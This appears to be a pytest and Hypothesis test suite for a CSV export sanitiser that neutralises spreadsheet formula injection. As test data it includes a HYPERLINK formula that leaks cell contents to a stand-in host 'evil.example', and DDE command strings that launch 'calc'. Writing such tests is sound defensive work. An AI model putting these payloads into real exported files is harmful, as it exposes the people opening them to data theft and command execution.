"""vru.outputs.csvsafe: every cell a spreadsheet would run as a formula is neutralised on export, numbers
are left alone, and restore() gives back exactly the text that was written (hand cases and Hypothesis)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vru.outputs import csvsafe

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'


@pytest.mark.parametrize("trigger", list("=+-@\t\r"))
def test_every_trigger_character_is_neutralised_and_restored(trigger):
    assert trigger in csvsafe.TRIGGERS
    text = trigger + "cmd|' /C calc'!A0"
    assert csvsafe.neutralise(text) == "'" + text
    assert csvsafe.restore(csvsafe.neutralise(text)) == text


@pytest.mark.parametrize("text, written", [
    (PAYLOAD, "'" + PAYLOAD),
    ("- 5 sessions", "'- 5 sessions"),
    ("@home", "'@home"),
    ("+44 20 7946 0000", "'+44 20 7946 0000"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("-inf", "'-inf"),
    ("'=already quoted", "''=already quoted"),  # a quote the user typed survives the round trip
    ("''-x", "'''-x"),
    ("-\u0663", "'-\u0663"),  # Arabic-Indic digit three: not a number to a spreadsheet
    ("+\uff11", "'+\uff11"),  # full-width digit one
    ("-5\n=1+1", "'-5\n=1+1"),
    # left alone: text that does not start with a trigger (after any quotes)
    ("Boxing club", "Boxing club"),
    ("", ""),
    ("'", "'"),
    ("'quoted", "'quoted"),
    (" =1+1", "' =1+1"),  # a leading space: LibreOffice may trim it, so it is neutralised too
    ("a=b", "a=b"),
    ("E01003911", "E01003911"),
    ('{"type":"Polygon"}', '{"type":"Polygon"}'),
])
def test_hand_cases(text, written):
    assert csvsafe.neutralise(text) == written
    assert csvsafe.restore(written) == text


@pytest.mark.parametrize("number", ["-5", "+3.2", "-0.5", "-.5", "+1e5", "-1E-3", "12", "0", "-12.",
                                    "750000.00", "-1050000.50"])
def test_numbers_written_as_text_stay_numbers(number):
    assert csvsafe.neutralise(number) == number
    assert csvsafe.restore(number) == number


@pytest.mark.parametrize("value", [-5, 3, 2.5, -2.5, Decimal("-1.50"), None, True])
def test_non_text_values_pass_through(value):
    assert csvsafe.neutralise(value) is value
    assert csvsafe.row([value]) == [value]


def test_restore_reads_a_cell_a_person_typed_as_a_spreadsheet_shows_it():
    assert csvsafe.restore("'=x") == "=x"
    assert csvsafe.restore("'-5") == "-5"  # the quote only hid a number; the number comes back
    assert csvsafe.restore("=x") == "=x"
    assert csvsafe.restore("'plain") == "'plain"


def test_writer_neutralises_every_text_cell_and_the_csv_reads_back():
    out = io.StringIO()
    w = csvsafe.writer(out)
    w.writerow(["name", "sessions", "amount"])
    w.writerows([[PAYLOAD, -5, Decimal("-1.50")], ["\r@home\n", 3, Decimal("2")]])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows == [["name", "sessions", "amount"], ["'" + PAYLOAD, "-5", "-1.50"],
                    ["'\r@home\n", "3", "2"]]
    assert [csvsafe.restore(c) for c in rows[2]] == ["\r@home\n", "3", "2"]


def test_safe_frame_neutralises_text_categories_column_names_and_the_index():
    df = pd.DataFrame({"=name": ["=A1", "ok"], "n": [-5, 2],
                       "kind": pd.Categorical(["@x", "y"])}, index=pd.Index(["+idx", "row"]))
    safe = csvsafe.safe_frame(df)
    assert list(safe.columns) == ["'=name", "n", "kind"]
    assert list(safe["'=name"]) == ["'=A1", "ok"]
    assert list(safe["n"]) == [-5, 2]
    assert list(safe["kind"].astype(str)) == ["'@x", "y"]
    assert list(safe.index) == ["'+idx", "row"]
    assert list(df["=name"]) == ["=A1", "ok"]  # the original is untouched
    rows = list(csv.reader(io.StringIO(safe.to_csv())))
    assert all(not c or c[0] not in csvsafe.TRIGGERS or csvsafe._is_number(c) for r in rows for c in r)


def _dangerous(cell: str) -> bool:
    return bool(cell) and cell[0] in csvsafe.TRIGGERS and not csvsafe._is_number(cell)


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet=st.one_of(st.sampled_from("'=+-@\t\r\n .0123456789eE\"\u0663"), st.characters()),
               max_size=30))
@pytest.mark.slow
def test_restore_undoes_neutralise_and_no_written_cell_starts_a_formula(s):
    written = csvsafe.neutralise(s)
    assert csvsafe.restore(written) == s
    assert not _dangerous(written)
    # and through a real CSV file
    out = io.StringIO()
    csvsafe.writer(out).writerow([s, "x"])
    cell = next(csv.reader(io.StringIO(out.getvalue(), newline="")))[0]
    assert csvsafe.restore(cell) == s


@pytest.mark.parametrize("text", [" =1+1", "\u00a0=1+1", "\uff1d1+1", "\uff20SUM(A1)", "\t =1", "''  +1"])
def test_white_space_and_full_width_triggers_are_neutralised_and_restored(text):
    """LibreOffice may trim leading spaces, and some programs read the full-width forms as the ASCII ones."""
    written = csvsafe.neutralise(text)
    assert written == "'" + text and csvsafe.restore(written) == text


def test_text_cells_are_quoted_so_a_semicolon_locale_cannot_split_out_a_formula():
    """Excel in many European locales splits on ';': ``a;=1+1`` unquoted would become a cell ``=1+1``."""
    out = io.StringIO()
    csvsafe.writer(out).writerow(["a;=1+1", 5, 2.5, "-5"])
    assert out.getvalue() == '"a;=1+1",5,2.5,"-5"\r\n'
    semicolon = next(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))
    assert not any(cell.startswith("=") for cell in semicolon)
